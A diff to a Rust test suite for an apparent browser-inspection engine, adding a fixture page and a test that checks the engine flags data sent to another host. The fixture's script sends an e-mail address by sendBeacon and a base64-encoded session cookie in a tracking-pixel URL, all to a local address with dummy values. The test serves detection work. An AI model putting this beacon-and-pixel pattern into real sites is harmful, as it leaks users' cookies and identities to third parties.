@@ -18,6 +18,13 @@ const HOME: &str = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nSet-Cookie: he
     localStorage.setItem('consent','yes');document.getElementById('banner').remove()\">Accept all</button></div>\
     <script>document.cookie='script=2; path=/';localStorage.plain='x';fetch('/api')</script><a href=/next>next</a>";
 
+/// Tells another host who is visiting: in a beacon of a blob, whose body DevTools leaves out, and in a
+/// picture's address.
+const TELLS: &str = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<!doctype html><title>x</title>\
+    <script>document.cookie='sid=7f9c2ba4e88f827d; path=/';const other='http://127.0.0.1:'+location.port;\
+    navigator.sendBeacon(other+'/beacon',new Blob([JSON.stringify({who:'ann@example.test'})]));\
+    new Image().src=other+'/pixel?s='+btoa('7f9c2ba4e88f827d')+'&t='+Date.now()</script>";
+
 /// A server that answers `/api` with a cookie on a redirect, everything else with the home page.
 fn server() -> Url {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
@@ -28,7 +35,9 @@ fn server() -> Url {
             std::thread::spawn(move || {
                 let mut head = [0; 4096];
                 let read = stream.read(&mut head).unwrap_or(0);
-                let answer = if head[..read].starts_with(b"GET /api2") {
+                let answer = if head[..read].starts_with(b"GET /tells") {
+                    TELLS
+                } else if head[..read].starts_with(b"GET /api2") {
                     "HTTP/1.1 200 OK\r\nSet-Cookie: second=1\r\nConnection: close\r\n\r\n{}"
                 } else if head[..read].starts_with(b"GET /api") {
                     "HTTP/1.1 302 Found\r\nSet-Cookie: hop=1\r\nLocation: /api2\r\nConnection: close\r\n\r\n"
@@ -282,4 +291,28 @@ async fn a_jar_comes_back_from_the_browser_as_it_went_in() {
     let other = engine.context(Disguise::default(), run()).await.unwrap();
     other.put(&back).await.unwrap();
     assert_eq!(described(&Jar::of(other.cookies().await)), described(&jar));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn requests_to_others_are_looked_into() {
+    let engine = BrowserEngine::start(&BrowserSettings::default()).await.unwrap();
+    let context = engine.context(Disguise::default(), run()).await.unwrap();
+    let page = context.page(&ask(server().join("/tells").unwrap()), Patience::default()).await.unwrap();
+    let visit = page.finish().await.visit;
+    let told: Vec<String> = visit
+        .exchanges
+        .iter()
+        .flat_map(|exchange| {
+            exchange.carried.iter().map(|one| format!("{} {}", exchange.url.path(), one.carried))
+        })
+        .collect();
+    assert_eq!(
+        told,
+        ["/beacon an e-mail address in `who`", "/pixel the value of the cookie `sid` in `s` (in base64)"]
+    );
+    let scripts = visit.exchanges.iter().filter_map(|exchange| exchange.script.as_ref());
+    assert!(
+        scripts.clone().count() > 0 && scripts.clone().all(|script| script.url.as_str().ends_with("/tells"))
+    );
+    context.close().await;
 }
